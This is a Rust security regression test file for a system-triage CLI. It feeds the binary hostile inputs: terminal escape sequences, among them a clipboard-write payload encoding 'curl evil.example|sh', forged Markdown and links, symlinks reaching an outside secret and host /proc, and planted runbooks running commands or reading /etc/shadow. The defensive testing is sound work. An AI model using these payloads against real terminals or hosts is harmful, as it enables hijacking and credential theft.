//! Attacks on the real binary (issue 16): escape-laden process names and log lines,
//! forged Markdown, huge durations. Each test's input is the attack; each assertion is
//! what the attack achieved before the fix.

use crate::common;

use std::path::Path;
use std::process::{Command, Output};

fn triage(home: &Path) -> Command {
    let mut cmd = Command::new(crate::common::triage_bin());
    cmd.env("TRIAGE_HOME", home).env("NO_COLOR", "1");
    cmd
}

/// A process whose command line writes the clipboard (OSC 52), clears the screen with a
/// C1 CSI, and forges a Markdown heading plus an HTML comment that hides the rest.
const EVIL_CMDLINE: &[u8] =
    b"java\0\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\x07\0z\n\n# OK\n<!--\0\xc2\x9b2J\0[x](https://evil.example)";
/// A syslog line doing the same, plus an OSC 8 link.
const EVIL_LOG: &str = "Nov 23 10:00:00 web1 app[42]: error \x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\ \x1b[2J\u{9b}31m done\n";

fn evil_root(dir: &Path) {
    common::copy_tree(&common::fixture("healthy"), dir);
    std::fs::write(dir.join("proc/1200/cmdline"), EVIL_CMDLINE).unwrap();
    std::fs::create_dir_all(dir.join("var/log")).unwrap();
    std::fs::write(dir.join("var/log/syslog"), EVIL_LOG).unwrap();
}

/// No byte that a terminal acts on: C0 except tab/newline, DEL, C1 (as UTF-8 or raw).
fn assert_terminal_safe(what: &str, out: &[u8]) {
    let text = String::from_utf8(out.to_vec())
        .unwrap_or_else(|e| panic!("{what}: output is not UTF-8: {e}"));
    let bad: Vec<char> = text
        .chars()
        .filter(|c| c.is_control() && *c != '\n' && *c != '\t')
        .collect();
    assert!(
        bad.is_empty(),
        "{what}: control characters {bad:?} in\n{text}"
    );
}

fn run(cmd: &mut Command) -> Output {
    let out = cmd.output().unwrap();
    assert!(
        out.status.code().is_some(),
        "killed: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    out
}

#[test]
fn snapshot_markdown_has_no_control_bytes_and_no_forged_markdown() {
    let tmp = tempfile::tempdir().unwrap();
    let root = tmp.path().join("root");
    evil_root(&root);
    let out = run(triage(tmp.path())
        .args(["snapshot", "--md", "--no-redact", "--root"])
        .arg(&root));
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert_terminal_safe("snapshot --md", &out.stdout);
    let md = String::from_utf8(out.stdout).unwrap();
    // The escapes are still visible, as text.
    assert!(md.contains("\\\\x1b]52;c;"), "{md}");
    for line in md.lines() {
        assert!(!line.starts_with("# OK"), "forged heading in\n{md}");
        assert!(
            !line.replace("\\<!--", "").contains("<!--"),
            "HTML comment in\n{md}"
        );
        assert!(!line.contains("[x](https"), "live link in\n{md}");
    }
    // The JSON keeps the exact bytes, as JSON escapes, and stays valid.
    let out = run(triage(tmp.path())
        .args(["snapshot", "--json", "--no-redact", "--root"])
        .arg(&root));
    assert_terminal_safe("snapshot --json", &out.stdout);
    let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    let cmd = v["processes"]
        .as_array()
        .unwrap()
        .iter()
        .find(|p| p["pid"] == 1200)
        .unwrap()["command"]
        .as_str()
        .unwrap()
        .to_string();
    assert!(
        cmd.contains("\u{1b}]52;c;") && cmd.contains('\u{9b}'),
        "{cmd:?}"
    );
}

#[test]
fn check_and_logs_print_no_control_bytes() {
    let tmp = tempfile::tempdir().unwrap();
    let root = tmp.path().join("root");
    evil_root(&root);
    let out = run(triage(tmp.path()).args(["check", "--root"]).arg(&root));
    assert_terminal_safe("check", &out.stdout);
    let out = run(triage(tmp.path())
        .args(["logs", "--since", "3650d", "--root"])
        .arg(&root));
    assert_terminal_safe("logs", &out.stdout);
    assert_terminal_safe("logs (stderr)", &out.stderr);
    let text = String::from_utf8(out.stdout).unwrap();
    assert!(text.contains("\\x1b]8;;https://evil.example/"), "{text}");
}

#[test]
fn huge_durations_are_usage_errors_not_panics() {
    let tmp = tempfile::tempdir().unwrap();
    let root = common::fixture("healthy");
    let cases: &[&[&str]] = &[
        &["snapshot", "--json", "--timeout", "18446744073709551615s"],
        &["snapshot", "--json", "--interval", "100000d"],
        &["snapshot", "--json", "--timeout", "2h"],
        &["logs", "--since", "99999999999d"],
        &["logs", "--since", "18446744073709551615s"],
    ];
    for args in cases {
        let started = std::time::Instant::now();
        let out = run(triage(tmp.path()).args(*args).arg("--root").arg(&root));
        let err = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(2), "{args:?}: {err}");
        assert!(!err.contains("panicked"), "{args:?}: {err}");
        assert!(
            err.contains("too long") || err.contains("at most"),
            "{args:?}: {err}"
        );
        assert!(started.elapsed().as_secs() < 10, "{args:?} took too long");
    }
}

/// A fixture tree whose links point at a stand-in secret outside it and at the host's own
/// files: no byte of the secret, and nothing of the analyst's machine, may reach any output.
#[test]
fn root_tree_symlinks_cannot_read_outside_the_tree() {
    use std::os::unix::fs::symlink;
    let tmp = tempfile::tempdir().unwrap();
    let secret = tmp.path().join("id_rsa");
    let marker = "TRIAGE-TEST-SECRET-3f9c1e";
    std::fs::write(
        &secret,
        format!("Nov 23 10:00:00 web1 sshd[1]: {marker}\n{marker}\n"),
    )
    .unwrap();
    let root = tmp.path().join("root");
    common::copy_tree(&common::fixture("healthy"), &root);
    std::fs::create_dir_all(root.join("var/log")).unwrap();
    std::fs::remove_file(root.join("proc/1200/cmdline")).unwrap();
    symlink(&secret, root.join("proc/1200/cmdline")).unwrap();
    symlink(
        "../../../../../../../../../../".to_string() + secret.to_str().unwrap(),
        root.join("var/log/syslog"),
    )
    .unwrap();
    symlink(&secret, root.join("etc/hostname")).unwrap();
    symlink(&secret, root.join("var/log/messages")).unwrap();
    let outputs = [
        vec!["snapshot", "--json", "--no-redact"],
        vec!["snapshot", "--md", "--no-redact"],
        vec!["check"],
        vec!["logs", "--since", "3650d", "--no-redact"],
    ];
    for args in &outputs {
        let out = run(triage(tmp.path()).args(args).arg("--root").arg(&root));
        for (what, bytes) in [("stdout", &out.stdout), ("stderr", &out.stderr)] {
            let text = String::from_utf8_lossy(bytes);
            assert!(
                !text.contains(marker),
                "{args:?} {what} leaked the secret:\n{text}"
            );
        }
    }
    // The refused link is named in a warning.
    let out = run(triage(tmp.path())
        .args(["logs", "--since", "3650d", "--root"])
        .arg(&root));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(
        err.contains("var/log/syslog") && err.contains("outside the --root tree"),
        "{err}"
    );

    // `proc → /proc`: the analyst's own processes must not be reported as the subject's.
    let root2 = tmp.path().join("root2");
    std::fs::create_dir_all(root2.join("etc")).unwrap();
    std::fs::write(root2.join("etc/hostname"), "subject\n").unwrap();
    symlink("/proc", root2.join("proc")).unwrap();
    let out = run(triage(tmp.path())
        .args(["snapshot", "--json", "--root"])
        .arg(&root2));
    let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    let procs = v["processes"].as_array().cloned().unwrap_or_default();
    assert!(
        procs.is_empty() && v["memory"].is_null(),
        "host /proc read through the tree: {} processes, memory {}",
        procs.len(),
        v["memory"]
    );
}

/// Root running `triage runbook` in a hostile directory (`/tmp`, a cloned repository):
/// its `./runbooks/` must not override the built-in runbooks, and a group-writable
/// runbook in the state dir is refused with an error naming it.
#[test]
fn runbooks_from_the_current_directory_or_writable_files_are_refused() {
    use std::os::unix::fs::PermissionsExt;
    let tmp = tempfile::tempdir().unwrap();
    let cwd = tmp.path().join("hostile");
    std::fs::create_dir_all(cwd.join("runbooks")).unwrap();
    let evil = "id = \"oom_kill\"\ntitle = \"PLANTED\"\ntriggers = [\"oom_kill\"]\n\n[[steps]]\ntitle = \"x\"\nexplain = \"x\"\ncheck = \"touch /tmp/pwned\"\n";
    std::fs::write(cwd.join("runbooks/oom_kill.toml"), evil).unwrap();
    std::fs::write(
        cwd.join("runbooks/inventory.toml"),
        "[[hosts]]\npattern = \"*\"\nlogs = [\"/etc/shadow\"]\n",
    )
    .unwrap();
    let home = tmp.path().join("home");
    let out = run(triage(&home)
        .current_dir(&cwd)
        .args(["runbook", "show", "oom_kill"]));
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(
        !text.contains("PLANTED") && !text.contains("/tmp/pwned"),
        "{text}"
    );

    std::fs::create_dir_all(home.join("runbooks")).unwrap();
    let planted = home.join("runbooks/oom_kill.toml");
    std::fs::write(&planted, evil).unwrap();
    std::fs::set_permissions(&planted, std::fs::Permissions::from_mode(0o666)).unwrap();
    let out = run(triage(&home).args(["runbook", "show", "oom_kill"]));
    let text = String::from_utf8_lossy(&out.stdout);
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(!text.contains("PLANTED"), "{text}");
    assert!(
        err.contains("oom_kill.toml") && err.contains("writable by group or others"),
        "{err}"
    );
}

/// `--runbooks DIR`: read with the same owner/mode checks as every source, and
/// `runbook run` names the file before each step runs.
#[test]
fn runbooks_flag_is_checked_and_each_step_names_its_file() {
    use std::os::unix::fs::PermissionsExt;
    let tmp = tempfile::tempdir().unwrap();
    let home = tmp.path().join("home");
    let dir = tmp.path().join("team-runbooks");
    std::fs::create_dir_all(&dir).unwrap();
    let rb = "id = \"team_check\"\ntitle = \"Team check\"\ntriggers = [\"disk_almost_full\"]\n\n[[step]]\ntitle = \"One\"\ncheck = \"echo step-one-ran\"\n\n[[step]]\ntitle = \"Two\"\ncheck = \"echo step-two-ran\"\n";
    let file = dir.join("team.toml");
    std::fs::write(&file, rb).unwrap();
    let out = run(triage(&home)
        .arg("--runbooks")
        .arg(&dir)
        .args(["runbook", "run", "team_check"])
        .stdin(std::process::Stdio::null()));
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    // Each step: its file, then its output.
    let origin = format!("from {}", file.canonicalize().unwrap().display());
    for marker in ["step-one-ran", "step-two-ran"] {
        let at = text
            .find(marker)
            .unwrap_or_else(|| panic!("{marker} missing in\n{text}"));
        let before = &text[..at];
        let last_step = before.rfind("── ").unwrap();
        assert!(before[last_step..].contains(&origin), "{text}");
    }
    // Without the flag the runbook does not exist.
    let out = run(triage(&home).args(["runbook", "show", "team_check"]));
    assert!(!out.status.success());
    // A directory others can write is refused with a clear error, before anything runs.
    std::fs::set_permissions(&dir, std::fs::Permissions::from_mode(0o777)).unwrap();
    let out = run(triage(&home)
        .arg("--runbooks")
        .arg(&dir)
        .args(["runbook", "run", "team_check"])
        .stdin(std::process::Stdio::null()));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(!out.status.success());
    assert!(!String::from_utf8_lossy(&out.stdout).contains("step-one-ran"));
    assert!(
        err.contains("--runbooks") && err.contains("writable by group or others"),
        "{err}"
    );
    // A file in it others can write: refused, named.
    std::fs::set_permissions(&dir, std::fs::Permissions::from_mode(0o755)).unwrap();
    std::fs::set_permissions(&file, std::fs::Permissions::from_mode(0o666)).unwrap();
    let out =
        run(triage(&home)
            .arg("--runbooks")
            .arg(&dir)
            .args(["runbook", "show", "team_check"]));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(!out.status.success());
    assert!(
        err.contains("team.toml") && err.contains("writable by group or others"),
        "{err}"
    );
}
